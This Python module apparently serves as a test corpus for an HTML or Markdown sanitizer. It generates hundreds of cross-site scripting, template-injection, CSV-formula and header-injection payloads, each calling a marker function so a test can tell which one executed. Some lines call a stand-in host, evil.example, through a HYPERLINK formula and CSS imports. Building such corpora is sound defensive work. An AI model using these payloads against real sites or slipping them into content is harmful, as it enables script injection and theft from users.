"""Texts that try to become code on a page: each calls ``__pwn`` with its own number if it can."""

from __future__ import annotations

from itertools import product

_BREAKS = (
    "", '"', "'", '">', "'>", "`", "-->", "]]>", "</p>", "</title>", "</textarea>", "</script>",
    "</style>", "</template>", '\\"', "&quot;>", "&#34;>", "\u2028", "\uff1c/script\uff1e",
)  # fmt: skip
_ELEMENTS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}//</sCrIpT >",
    "<img src=x onerror={call}>",
    "<img/src='x'\nonerror='{call}'>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}>#x'/>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<body onload={call}>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<math><a xlink:href=javascript:{call}>m</a></math>",
    "<form action=javascript:{call}><button autofocus onfocus={call}>b</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href='javascript:{call}//'>",
    "<link rel=stylesheet href='data:text/css,*{{background:url(//evil.example)}}'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[><img src=x onerror={call}>]]>",
    "<p style='animation-name:x' onanimationstart={call}>",
    "<a href='javascript:{call}' autofocus onfocus={call}>a</a>",
)
_SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "\x01javascript:{call}",
    " javascript:{call}",
    "&#x6a;avascript:{call}",
    "&#0000106avascript:{call}",
    "javascript&colon;{call}",
    "javascript&#58;{call}",
    "javascript%3A{call}",
    "javascript://%0a{call}",
    "/javascript:{call}",
    "./javascript:{call}",
    "//javascript:{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bigwKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={call}>",
    "feed:javascript:{call}",
    "view-source:javascript:{call}",
    "blob:javascript:{call}",
    "filesystem:javascript:{call}",
    'https://a.example/" onmouseover="{call}',
    "https://a.example/'onerror='{call}",
    "\uff4aavascript:{call}",
)
_LINKS = (
    "{url}",
    "[x]({url})",
    "[x](<{url}>)",
    "![x]({url})",
    "<{url}>",
    '[x](/a "t\\" onmouseover={url} \\"")',
    "[x]: {url}\n[x]",
    '<a href="{url}">x</a>',
)
_TEMPLATES = (
    "{{{{ 7 * 191 }}}} {call}",
    "{{% for x in range(9) %}}{{{{ x }}}}{{% endfor %}} {call}",
    "{{{{ self.__init__.__globals__ }}}} {call}",
    "{{{{ ''.__class__.__mro__ }}}} {call}",
    "{{% include 'base.html' %}} {call}",
    "${{{{7*191}}}} <%= {call} %> #{{{call}}}",
)
_DATA = (
    '=HYPERLINK("http://evil.example/{call}")',
    "+{call}",
    "-{call}",
    "@SUM({call})",
    "\t={call}",
    '"}},{{"@type":"Person","name":"{call}"}}</script><script>{call}</script>',
    "</script><!--<script>{call}",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>{call}</script>",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "\r\nX-Header: {call}\r\n\r\n<script>{call}</script>",
    "<<script>{call}//<</script>",
    "<img src=x onerror=&#95;&#95;pwn({number})>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "%3Cscript%3E{call}%3C/script%3E",
    "\u202e<script>{call}</script>\u202c",
    "<a\u00a0href=javascript:{call}>x</a>",
    "*a**<img src=x onerror={call}>**b*",
    "`</code><img src=x onerror={call}>`",
    "```\n</code></pre><script>{call}</script>\n```",
    "|a|\n|-|\n|<script>{call}</script>|",
    "[^1]\n\n[^1]: <script>{call}</script>",
)
COMPUTED = "1337"
"""What a template would make of ``{{ 7 * 191 }}``: no payload says it."""


def payloads() -> tuple[str, ...]:
    """Return every payload; that of index n calls ``__pwn(n)``."""
    forms = (
        *(before + element for element, before in product(_ELEMENTS, _BREAKS)),
        *(link.replace("{url}", url) for url, link in product(_SCHEMES, _LINKS)),
        *_TEMPLATES,
        *_DATA,
    )
    return tuple(
        form.format(call=f"__pwn({number})", number=number) for number, form in enumerate(forms)
    )
